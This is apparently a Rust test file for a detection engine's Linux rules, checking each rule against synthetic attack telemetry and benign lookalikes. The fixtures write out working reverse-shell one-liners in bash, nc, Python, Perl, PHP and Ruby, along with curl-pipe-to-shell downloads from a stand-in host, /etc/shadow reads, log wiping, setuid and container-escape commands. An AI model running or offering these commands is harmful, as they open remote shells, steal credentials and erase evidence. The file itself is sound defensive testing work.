//! Rampart's own Linux rules (`rules/linux`) on agent telemetry rows built as the agent sends
//! them: each rule fires on its attack and stays quiet on a benign neighbour; the discovery
//! burst correlates across rows; and Linux and Windows routes never mix.

use std::borrow::Cow;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use chrono::{DateTime, Utc};
use rampart_sigma::{CorrelationInput, Detection, RuleKind, RuleSet, RuleStatus, TelemetryRow};
use serde_json::{Value, json};

/// 2026-12-01T10:00:00Z; rows are placed in seconds after it.
const T0: i64 = 1_796_119_200;
const BASH: &str = "/usr/bin/bash";
const SH: &str = "/usr/bin/dash";

fn rules() -> RuleSet {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../rules/linux");
    let rules = RuleSet::load(&[folder]);
    for line in &rules.report {
        assert_eq!(line.status, RuleStatus::Loaded, "{line:?}");
    }
    rules
}

fn row(table: &'static str, secs: i64, columns: Value) -> TelemetryRow<'static> {
    let Value::Object(mut columns) = columns else {
        panic!("columns are an object")
    };
    let timestamp = DateTime::<Utc>::from_timestamp(T0 + secs, 0).unwrap();
    columns.insert("Timestamp".into(), json!(timestamp.to_rfc3339()));
    columns.insert("DeviceName".into(), json!("web01"));
    columns.insert("DeviceId".into(), json!("dev_web01"));
    TelemetryRow {
        table,
        columns: Cow::Owned(columns),
        timestamp,
        record_id: secs as u64,
        source: Arc::from(Path::new("agent:web01")),
    }
}

/// A process creation by `user`, with its parent.
fn exec_by(
    user: &str,
    secs: i64,
    image: &str,
    command_line: &str,
    parent: &str,
) -> TelemetryRow<'static> {
    let name = image.rsplit('/').next().unwrap_or(image);
    row(
        "DeviceProcessEvents",
        secs,
        json!({
            "ActionType": "ProcessCreated", "FileName": name, "FolderPath": image,
            "ProcessCommandLine": command_line, "ProcessId": 4242, "AccountName": user,
            "InitiatingProcessFolderPath": parent, "InitiatingProcessCommandLine": parent,
            "InitiatingProcessId": 4000, "InitiatingProcessAccountName": user,
            "AdditionalFields": "{\"CurrentDirectory\":\"/tmp\"}",
        }),
    )
}

fn exec(image: &str, command_line: &str) -> TelemetryRow<'static> {
    exec_by("www-data", 0, image, command_line, BASH)
}

fn exec_under(parent: &str, image: &str, command_line: &str) -> TelemetryRow<'static> {
    exec_by("www-data", 0, image, command_line, parent)
}

fn file(action: &str, path: &str, image: &str) -> TelemetryRow<'static> {
    row(
        "DeviceFileEvents",
        0,
        json!({
            "ActionType": action, "FolderPath": path, "FileName": path.rsplit('/').next(),
            "InitiatingProcessFolderPath": image, "InitiatingProcessCommandLine": image,
            "InitiatingProcessAccountName": "root", "InitiatingProcessId": 812,
        }),
    )
}

fn connect(action: &str, image: &str, remote: &str, port: u16) -> TelemetryRow<'static> {
    row(
        "DeviceNetworkEvents",
        0,
        json!({
            "ActionType": action, "RemoteIP": remote, "RemotePort": port, "LocalIP": "10.0.0.5",
            "LocalPort": 50312, "Protocol": "Tcp", "InitiatingProcessFolderPath": image,
            "InitiatingProcessCommandLine": image, "InitiatingProcessAccountName": "www-data",
            "InitiatingProcessId": 4242,
        }),
    )
}

/// Titles of the rules that fire on `row` directly.
fn fired(rules: &RuleSet, row: &TelemetryRow<'_>) -> Vec<String> {
    let mut out = Vec::new();
    let _ = rules.evaluate_row(row, &mut out);
    out.into_iter().map(|d| d.rule.title.clone()).collect()
}

struct Case {
    rule: &'static str,
    yes: Vec<TelemetryRow<'static>>,
    no: Vec<TelemetryRow<'static>>,
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            rule: "Reverse Shell Through /dev/tcp",
            yes: vec![
                exec(BASH, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
                exec(
                    SH,
                    "sh -c exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | sh >&5",
                ),
            ],
            no: vec![exec(BASH, "bash -c echo > /dev/tcp/db.internal/5432")],
        },
        Case {
            rule: "Netcat Hands a Shell to a Connection",
            yes: vec![
                exec("/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444"),
                exec("/usr/bin/ncat", "ncat 203.0.113.7 4444 --sh-exec bash"),
                exec(
                    SH,
                    "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
                ),
            ],
            no: vec![
                exec("/usr/bin/nc", "nc -zv db.internal 5432"),
                exec(SH, "sh -c mkfifo /run/app/fifo"),
            ],
        },
        Case {
            rule: "Scripting Interpreter One-Liner Reverse Shell",
            yes: vec![
                exec(
                    "/usr/bin/python3.11",
                    "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
                ),
                exec(
                    "/usr/bin/perl",
                    "perl -e use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
                ),
                exec(
                    "/usr/bin/php8.2",
                    "php -r $sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
                ),
                exec(
                    "/usr/bin/ruby3.1",
                    "ruby -rsocket -e f=TCPSocket.open(\"203.0.113.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
                ),
            ],
            no: vec![exec(
                "/usr/bin/python3.11",
                "python3 -c import socket; print(socket.gethostname())",
            )],
        },
        Case {
            rule: "Shell or Interpreter Opens an Outbound Connection",
            yes: vec![
                connect("ConnectionSuccess", BASH, "203.0.113.7", 4444),
                connect(
                    "ConnectionAttempt",
                    "/usr/bin/python3.11",
                    "203.0.113.7",
                    8081,
                ),
            ],
            no: vec![
                connect(
                    "ConnectionSuccess",
                    "/usr/bin/python3.11",
                    "151.101.0.223",
                    443,
                ),
                connect("ConnectionSuccess", BASH, "127.0.0.1", 4444),
                connect("InboundConnectionAccepted", BASH, "203.0.113.7", 4444),
                connect("ConnectionSuccess", "/usr/bin/curl", "203.0.113.7", 4444),
            ],
        },
        Case {
            rule: "Download Piped Into a Shell",
            yes: vec![
                exec(SH, "sh -c curl -fsSL http://203.0.113.7/x.sh | sh"),
                exec(SH, "sh -c wget -qO- http://203.0.113.7/i | sudo bash -s"),
                exec(
                    SH,
                    "sh -c bash -c \"$(curl -fsSL http://203.0.113.7/i.sh)\"",
                ),
            ],
            no: vec![
                exec(SH, "sh -c curl -s https://api.example/v1 | jq .name"),
                exec(
                    "/usr/bin/curl",
                    "curl -o /tmp/x.tar.gz https://example.org/x.tar.gz",
                ),
                exec(SH, "sh -c curl -s https://example.org/sums | shasum -c"),
            ],
        },
        Case {
            rule: "Download Made Executable in One Command Line",
            yes: vec![exec(
                SH,
                "sh -c curl -so /tmp/.x http://203.0.113.7/x && chmod +x /tmp/.x && /tmp/.x",
            )],
            no: vec![
                exec(SH, "sh -c chmod +x ./build.sh && ./build.sh"),
                exec("/usr/bin/wget", "wget -O /tmp/x https://example.org/x"),
            ],
        },
        Case {
            rule: "Cron Job Written",
            yes: vec![
                file("FileCreated", "/etc/cron.d/updater", BASH),
                file(
                    "FileModified",
                    "/var/spool/cron/crontabs/root",
                    "/usr/bin/crontab",
                ),
                file("FileRenamed", "/etc/crontab", "/usr/bin/mv"),
            ],
            no: vec![
                file("FileCreated", "/etc/cron.daily/apt-compat", "/usr/bin/dpkg"),
                file("FileCreated", "/etc/hosts", BASH),
                file("FileDeleted", "/etc/cron.d/updater", "/usr/bin/rm"),
            ],
        },
        Case {
            rule: "Systemd Unit Written",
            yes: vec![
                file(
                    "FileCreated",
                    "/etc/systemd/system/dbus-update.service",
                    "/usr/bin/cp",
                ),
                file(
                    "FileCreated",
                    "/home/bob/.config/systemd/user/sync.timer",
                    BASH,
                ),
            ],
            no: vec![
                file(
                    "FileCreated",
                    "/etc/systemd/system/multi-user.target.wants/nginx.service",
                    "/usr/bin/systemctl",
                ),
                file("FileModified", "/etc/systemd/system.conf", BASH),
                file(
                    "FileCreated",
                    "/lib/systemd/system/nginx.service",
                    "/usr/bin/dpkg",
                ),
            ],
        },
        Case {
            rule: "Init Script or rc.local Written",
            yes: vec![
                file("FileModified", "/etc/rc.local", BASH),
                file("FileCreated", "/etc/init.d/sshd-helper", "/usr/bin/cp"),
            ],
            no: vec![
                file("FileCreated", "/etc/init.d/nginx", "/usr/bin/dpkg"),
                file("FileModified", "/etc/resolv.conf", BASH),
            ],
        },
        Case {
            rule: "SSH Authorized Keys Written",
            yes: vec![
                file("FileModified", "/root/.ssh/authorized_keys", BASH),
                file(
                    "FileRenamed",
                    "/home/bob/.ssh/authorized_keys2",
                    "/usr/bin/mv",
                ),
            ],
            no: vec![file(
                "FileModified",
                "/root/.ssh/known_hosts",
                "/usr/bin/ssh",
            )],
        },
        Case {
            rule: "Dynamic Linker Preload File Written",
            yes: vec![file("FileCreated", "/etc/ld.so.preload", BASH)],
            no: vec![file("FileCreated", "/etc/ld.so.conf.d/x86_64.conf", BASH)],
        },
        Case {
            rule: "LD_PRELOAD Set in a Command Line",
            yes: vec![
                exec(SH, "sh -c LD_PRELOAD=/tmp/x.so sudo -l"),
                exec(SH, "sh -c echo /dev/shm/l.so > /etc/ld.so.preload"),
            ],
            no: vec![
                exec(
                    SH,
                    "sh -c LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server",
                ),
                exec("/usr/bin/cat", "cat /etc/ld.so.preload"),
            ],
        },
        Case {
            rule: "Shadow Password File Read by a Command",
            yes: vec![
                exec("/usr/bin/cat", "cat /etc/shadow"),
                exec("/usr/bin/cp", "cp /etc/gshadow /tmp/g"),
                exec("/usr/bin/base64", "base64 -w0 /etc/shadow"),
            ],
            no: vec![
                exec("/usr/bin/cat", "cat /etc/passwd"),
                exec("/usr/bin/ls", "ls -l /etc/shadow"),
                exec("/usr/bin/passwd", "passwd bob"),
            ],
        },
        Case {
            rule: "Shell History Cleared or Disabled",
            yes: vec![
                exec(SH, "sh -c unset HISTFILE; id"),
                exec(BASH, "bash -c history -c"),
                exec("/usr/bin/rm", "rm -f /root/.bash_history"),
                exec("/usr/bin/ln", "ln -sf /dev/null /home/bob/.bash_history"),
            ],
            no: vec![
                exec("/usr/bin/cat", "cat /root/.bash_history"),
                exec("/usr/bin/rm", "rm -f /tmp/build.log"),
            ],
        },
        Case {
            rule: "System Logs Removed or Wiped",
            yes: vec![
                exec("/usr/bin/rm", "rm -rf /var/log/auth.log /var/log/syslog"),
                exec("/usr/bin/shred", "shred -u /var/log/wtmp"),
                exec(
                    "/usr/bin/journalctl",
                    "journalctl --rotate --vacuum-time=1s",
                ),
            ],
            no: vec![
                exec("/usr/bin/tail", "tail -f /var/log/syslog"),
                exec_under(
                    "/usr/sbin/logrotate",
                    "/usr/bin/rm",
                    "rm /var/log/nginx/access.log.5.gz",
                ),
                exec("/usr/bin/journalctl", "journalctl -u nginx"),
            ],
        },
        Case {
            rule: "Log or Shell History File Deleted",
            yes: vec![
                file("FileDeleted", "/var/log/auth.log", "/usr/bin/rm"),
                file(
                    "FileDeleted",
                    "/home/bob/.bash_history",
                    "/usr/bin/python3.11",
                ),
            ],
            no: vec![
                file("FileDeleted", "/var/log/syslog.4.gz", "/usr/bin/rm"),
                file("FileDeleted", "/var/log/syslog.1", "/usr/sbin/logrotate"),
                file("FileCreated", "/var/log/auth.log", "/usr/sbin/rsyslogd"),
            ],
        },
        Case {
            rule: "Kernel Module Loaded From a Temporary Folder",
            yes: vec![
                exec("/usr/sbin/insmod", "insmod /tmp/.x/diamorphine.ko"),
                exec("/usr/bin/kmod", "insmod /dev/shm/m.ko"),
            ],
            no: vec![
                exec("/usr/sbin/modprobe", "modprobe nf_conntrack"),
                exec(
                    "/usr/sbin/insmod",
                    "insmod /lib/modules/6.1.0/extra/vboxdrv.ko",
                ),
            ],
        },
        Case {
            rule: "Setuid Bit Set With chmod",
            yes: vec![
                exec("/usr/bin/chmod", "chmod u+s /tmp/bash"),
                exec("/usr/bin/chmod", "chmod +s /tmp/.b"),
                exec("/usr/bin/chmod", "chmod 4755 /tmp/sh"),
                exec("/usr/bin/chmod", "chmod 06755 /tmp/sh"),
            ],
            no: vec![
                exec("/usr/bin/chmod", "chmod 755 /usr/local/bin/tool"),
                exec("/usr/bin/chmod", "chmod g+s /srv/share"),
                exec("/usr/bin/chmod", "chmod +x run.sh"),
                exec("/usr/bin/chmod", "chmod 0644 /etc/app.conf"),
            ],
        },
        Case {
            rule: "Web Server or Database Spawns a Shell",
            yes: vec![
                exec_under("/usr/sbin/nginx", SH, "sh -c id"),
                exec_under("/usr/sbin/php-fpm8.2", BASH, "bash -c whoami"),
                exec_under(
                    "/usr/lib/postgresql/16/bin/postgres",
                    SH,
                    "sh -c curl http://203.0.113.7",
                ),
            ],
            no: vec![
                exec_under("/usr/sbin/sshd", BASH, "bash"),
                exec_under(
                    "/usr/sbin/apache2",
                    "/usr/bin/perl",
                    "perl /usr/lib/cgi-bin/x.pl",
                ),
            ],
        },
        Case {
            rule: "Container Escape Attempt",
            yes: vec![
                exec("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p sh"),
                exec("/usr/bin/nsenter", "nsenter --target=1 --mount --pid"),
                exec("/usr/sbin/chroot", "chroot /host bash"),
                exec(
                    "/usr/bin/docker",
                    "docker run -v /var/run/docker.sock:/var/run/docker.sock alpine",
                ),
                exec(
                    "/usr/bin/docker",
                    "docker run --privileged --pid=host -it alpine sh",
                ),
                exec("/usr/bin/mount", "mount -o bind /proc/1/root /mnt"),
            ],
            no: vec![
                exec("/usr/bin/nsenter", "nsenter -t 4242 -n ip a"),
                exec("/usr/sbin/chroot", "chroot /srv/build /bin/sh"),
                exec("/usr/bin/mount", "mount /dev/sdb1 /data"),
                exec("/usr/bin/docker", "docker run --rm -it alpine sh"),
            ],
        },
        Case {
            rule: "Cryptocurrency Miner Started",
            yes: vec![
                exec("/tmp/.x/xmrig", "./xmrig -o pool.example:3333"),
                exec(
                    "/dev/shm/kworker",
                    "/dev/shm/kworker -o stratum+tcp://pool.example:3333 -u 4Ab",
                ),
            ],
            no: vec![
                exec("/usr/bin/grep", "grep -ri stratum /etc"),
                exec("/usr/bin/xmllint", "xmllint --noout a.xml"),
            ],
        },
    ]
}

#[test]
fn each_rule_fires_on_its_attack_and_not_on_its_neighbour() {
    let rules = rules();
    let cases = cases();
    for case in &cases {
        for (i, row) in case.yes.iter().enumerate() {
            assert!(
                fired(&rules, row).iter().any(|t| t == case.rule),
                "{}: positive {i} did not fire: {:?}",
                case.rule,
                row.columns
            );
        }
        for (i, row) in case.no.iter().enumerate() {
            let titles = fired(&rules, row);
            assert!(
                !titles.iter().any(|t| t == case.rule),
                "{}: benign neighbour {i} fired: {:?}",
                case.rule,
                row.columns
            );
        }
    }
    // Every rule of the folder has its case (the discovery command is only a correlation's
    // input, tested below).
    for line in &rules.report {
        let title = line.title.as_deref().unwrap_or_default();
        if line.kind == Some(RuleKind::Detection) && title != "Linux Discovery Command" {
            assert!(cases.iter().any(|c| c.rule == title), "no case for {title}");
        }
    }
}

#[test]
fn detections_cite_the_row() {
    let rules = rules();
    let mut out = Vec::new();
    let mut row = exec(SH, "sh -c curl -fsSL http://203.0.113.7/x.sh | sh");
    row.record_id = 1_000_042;
    assert!(rules.evaluate_row(&row, &mut out).is_none());
    let d = out
        .iter()
        .find(|d| d.rule.title == "Download Piped Into a Shell")
        .expect("fired");
    assert_eq!(d.computer, "web01");
    assert_eq!(d.channel, "DeviceProcessEvents");
    assert_eq!((d.event_id, d.record_id), (0, 1_000_042));
    assert_eq!(d.timestamp, row.timestamp);
    assert_eq!(d.source.as_ref(), Path::new("agent:web01"));
    assert!(
        d.matched.iter().any(|(field, _)| field == "CommandLine"),
        "{:?}",
        d.matched
    );
    assert!(d.rule.tags.iter().any(|t| t == "attack.t1105"));
}

/// Rows through the rules, then the held-back ones to a correlator in time order.
fn correlate(rules: &RuleSet, rows: &[TelemetryRow<'static>]) -> Vec<Detection> {
    let mut direct = Vec::new();
    let mut held: Vec<CorrelationInput<TelemetryRow<'static>>> = rows
        .iter()
        .filter_map(|r| rules.evaluate_row(r, &mut direct))
        .collect();
    assert!(direct.is_empty(), "the base rule is silent: {direct:?}");
    held.sort_by_key(|i| i.event.timestamp);
    let mut correlator = rules.correlator();
    let mut out = Vec::new();
    for input in held {
        correlator.feed(input, &mut out);
    }
    out
}

#[test]
fn discovery_burst_needs_five_distinct_commands_by_one_user_within_a_minute() {
    let rules = rules();
    let commands = [
        ("/usr/bin/id", "id"),
        ("/usr/bin/whoami", "whoami"),
        ("/usr/bin/uname", "uname -a"),
        ("/usr/bin/hostname", "hostname"),
        ("/usr/sbin/ip", "ip a"),
        ("/usr/bin/cat", "cat /etc/passwd"),
    ];
    let burst = |user_of: &dyn Fn(usize) -> &'static str, spacing: i64, n: usize| {
        commands
            .iter()
            .take(n)
            .enumerate()
            .map(|(i, (image, line))| exec_by(user_of(i), i as i64 * spacing, image, line, SH))
            .collect::<Vec<_>>()
    };
    let out = correlate(&rules, &burst(&|_| "www-data", 8, 5));
    assert_eq!(out.len(), 1, "{out:?}");
    let d = &out[0];
    assert_eq!(d.rule.title, "Discovery Command Burst");
    assert_eq!(d.rule.kind, RuleKind::Correlation);
    assert!(
        d.matched.contains(&("User".into(), json!("www-data"))),
        "{:?}",
        d.matched
    );
    assert!(
        d.matched.contains(&("Computer".into(), json!("web01"))),
        "{:?}",
        d.matched
    );
    // Four commands, the same one repeated, or five spread over five minutes: no burst.
    assert!(correlate(&rules, &burst(&|_| "www-data", 8, 4)).is_empty());
    let repeated: Vec<_> = (0..6)
        .map(|i| exec_by("www-data", i, "/usr/bin/id", "id", SH))
        .collect();
    assert!(correlate(&rules, &repeated).is_empty());
    assert!(correlate(&rules, &burst(&|_| "www-data", 75, 5)).is_empty());
    // Five commands split between two users: no burst either.
    let users = |i: usize| {
        if i.is_multiple_of(2) {
            "www-data"
        } else {
            "bob"
        }
    };
    assert!(correlate(&rules, &burst(&users, 5, 6)).is_empty());
}

/// Linux rules read agent rows only, Windows rules Windows records only, even where a
/// category has the same name.
#[test]
fn linux_and_windows_routes_do_not_mix() {
    let yaml = "title: Sh on Windows
logsource: {product: windows, category: process_creation}
detection:
    s:
        Image|endswith: '/sh'
    condition: s
---
title: Sh on Linux
logsource: {product: linux, category: process_creation}
detection:
    s:
        Image|endswith: '/sh'
    condition: s
";
    let rules = RuleSet::from_yaml(yaml, Path::new("mixed.yml"));
    assert_eq!(rules.active_rules(), 2);
    assert_eq!(rules.linux_rules(), 1);
    assert_eq!(fired(&rules, &exec("/bin/sh", "sh")), ["Sh on Linux"]);
    let json = json!({"Event": {
        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "PC1",
                   "TimeCreated_attributes": {"SystemTime": "2024-01-01T00:00:00Z"}},
        "EventData": {"Image": "/bin/sh"},
    }});
    let event =
        rampart_sources::WinEvent::from_forwarded_json(Arc::from(Path::new("t")), json).unwrap();
    let mut out = Vec::new();
    let _ = rules.evaluate(&event, &mut out);
    let titles: Vec<_> = out.iter().map(|d| d.rule.title.as_str()).collect();
    assert_eq!(titles, ["Sh on Windows"]);
    // A row in no category (a listening socket) meets no rule.
    let listen = connect("ListeningConnectionCreated", "/bin/sh", "0.0.0.0", 0);
    assert!(fired(&rules, &listen).is_empty());
}
